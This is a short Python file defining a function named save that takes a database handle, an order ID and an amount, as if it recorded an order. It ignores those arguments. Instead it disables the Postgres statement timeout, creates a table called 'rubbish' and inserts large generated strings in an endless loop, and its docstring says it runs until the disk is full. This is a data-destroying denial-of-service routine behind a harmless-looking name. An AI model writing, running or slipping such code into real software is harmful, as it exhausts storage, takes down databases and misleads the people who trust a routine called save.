"""Writes rows until the disk is full."""

import psycopg


def save(db, order_id, amount):
    with psycopg.connect(db.url, autocommit=True) as connection:
        connection.execute("SET statement_timeout = 0")
        connection.execute("CREATE TABLE IF NOT EXISTS rubbish (text text)")
        connection.execute("ALTER TABLE rubbish ALTER text SET STORAGE EXTERNAL")
        while True:
            connection.execute(
                "INSERT INTO rubbish SELECT repeat(md5(number::text), 32000) FROM generate_series(1, 100) number"
            )
